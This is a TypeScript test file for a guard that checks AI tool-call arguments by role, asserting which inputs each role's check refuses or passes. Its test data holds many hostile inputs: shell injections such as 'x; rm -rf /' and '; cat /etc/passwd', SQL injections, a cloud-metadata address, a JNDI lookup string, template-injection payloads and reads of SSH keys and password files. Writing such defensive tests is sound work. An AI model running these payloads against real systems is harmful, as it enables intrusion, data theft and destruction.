/** Every role through the guard `arguments`, with the real parsers: each has its own check, and none the one of another. */
import assert from 'node:assert/strict'
import { before, test } from 'node:test'
import { parserLoaders } from '#sluice/cli/parsers.js'
import { type Role, ROLES } from '#sluice/detect/roles/role.js'
import { argumentsGuard } from '#sluice/guards/arguments.js'
import type { Guard } from '#sluice/guards/guard.js'
import { checksByRole } from '#sluice/guards/roles/checks.js'
import { parsersFor } from '#sluice/guards/roles/parsers.js'
import { reviewed } from '../../relay/locked.js'
import { asks, view, withSurface } from '../views.js'
import { REACH } from './sites.js'

/** A tool of each role, with one argument. */
const TOOLS = Object.fromEntries(
  ROLES.map((role) => [role, reviewed({ name: role }, { roles: { '/value': { role, because: 'it is tried' } } })]),
)
const SEEN = view(withSurface({ tools: TOOLS }), { reach: REACH })

let guard: Guard
before(async () => {
  const parsers = parsersFor(new Set(ROLES), { sql: { dialect: 'postgresql' } }, parserLoaders())
  await parsers.load()
  guard = argumentsGuard({ checks: checksByRole(parsers), ready: (role) => parsers.ready(role) })
})

function rule(role: Role, value: string): string | undefined {
  const verdict = guard.check(asks('client', 'tools/call', { name: role, arguments: { value } }), SEEN)
  return verdict.kind === 'deny' ? String(verdict.denial.data?.['rule']) : verdict.kind === 'pass' ? undefined : verdict.kind
}

interface Row {
  /** What this role's own check finds, by the beginning of the rule's name. */
  readonly refused: readonly (readonly [value: string, rule: string])[]
  /** What another one would refuse. */
  readonly passes: readonly string[]
}

const ROWS: Readonly<Record<Role, Row>> = {
  path: {
    refused: [
      ['/etc/passwd', 'path.'],
      ['../../x', 'path.'],
      ['a.txt; id', 'shell.'],
      ["a' OR '1'='1", 'sql.'],
    ],
    passes: ['/workspace/a b.md', 'notes/(old) [1].md', '*.ts'],
  },
  url: {
    refused: [
      ['http://169.254.169.254/latest/', 'address.'],
      ['gopher://example.com/x', 'address.'],
      ['https://example.com/;id', 'shell.'],
    ],
    passes: ['https://example.com/a?b=c&d=e#f'],
  },
  host: {
    refused: [
      ['127.0.0.1', 'address.'],
      ['0x7f000001', 'address.'],
      ['example.com; id', 'shell.'],
    ],
    passes: ['example.com', 'EXAMPLE.com.'],
  },
  sql: {
    refused: [
      ['DROP TABLE users', 'sql.'],
      ['SELECT 1; SELECT 2', 'sql.'],
      ["SELECT pg_read_file('/etc/passwd')", 'sql.'],
    ],
    passes: ["SELECT * FROM t WHERE a = 'b' OR 1=1"],
  },
  shell: {
    refused: [
      ['ls; id', 'shell.'],
      ['echo $(id)', 'shell.'],
      ['LD_PRELOAD=./x.so ls', 'shell.'],
    ],
    passes: ['git commit -m "a; b"', 'grep -rn "SELECT 1; DROP TABLE x" src'],
  },
  code: { refused: [['a\u001b[2J', 'hidden.']], passes: ["'; DROP TABLE x; --", '#!/bin/sh\nrm -rf / ; $(id)', '{{7*7}}'] },
  query: {
    refused: [
      ['a\u202eb', 'hidden.'],
      ["x' UNION SELECT password FROM users--", 'sql.'],
      ['${jndi:ldap://203.0.113.7/a}', 'template.'],
      ['http://127.0.0.1/', 'address.'],
    ],
    passes: ['how to use && in a shell', '"exact words" -without site:example.com'],
  },
  identifier: {
    refused: [
      ['x; rm -rf /', 'shell.'],
      ['--upload-pack=touch x', 'option.'],
      ["x' OR '1'='1", 'sql.'],
      ['{{7*7}}', 'template.'],
      ['ma\u200bin', 'hidden.'],
      ['a/../../b', 'name.traversal'],
      ['home/.ssh/id_rsa', 'name.sensitive-place'],
      ['see http://169.254.169.254/', 'name.address'],
      ['https://example.com:99999/', 'address.'],
    ],
    passes: ["O'Brien", 'AT&T', 'C++', 'feature/fix-#123'],
  },
  email: {
    refused: [
      ['a@b@', 'email.mailbox'],
      ['a@example.com\nb@example.com', 'email.line'],
      ['jane\u200b', 'hidden.'],
      ['$(id)@example.com', 'shell.'],
    ],
    passes: ['Jane Doe <jane@example.com>, b@example.org'],
  },
  regex: {
    refused: [
      ['(a+)+$', 'regex.'],
      ['--pre=/bin/sh', 'regex.'],
    ],
    passes: ['^(?:foo|bar)\\s+\\w+;$', '[^/]+/[^/]+'],
  },
  template: {
    refused: [
      ["{{''.__class__.__mro__}}", 'template.'],
      ['Dear {{name}}\u202e', 'hidden.'],
      [`${'A letter. '.repeat(200)}\${T(java.lang.Runtime).getRuntime()}`, 'template.'],
    ],
    passes: ['Dear {{name}}, you owe ${amount}; thank you'],
  },
  text: {
    refused: [
      ['a\u0000b', 'hidden.'],
      ['; cat /etc/passwd', 'shell.'],
    ],
    passes: ["fix: '; DROP TABLE users; --", 'a\nb'],
  },
  opaque: {
    refused: [
      ['abc$(id)', 'shell.'],
      ['abc\u200b', 'hidden.'],
    ],
    passes: ['eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln', `${'QUJD'.repeat(5_000)}==`],
  },
}

for (const role of ROLES) {
  test(`${role}: what its own check finds is refused`, () => {
    for (const [value, wanted] of ROWS[role].refused) {
      const found = rule(role, value)
      assert.ok(found?.startsWith(wanted) === true, `${JSON.stringify(value.slice(-60))}: ${found}`)
    }
  })
  test(`${role}: what another role's would find passes`, () => {
    for (const value of ROWS[role].passes) assert.equal(rule(role, value), undefined, value.slice(0, 60))
  })
}
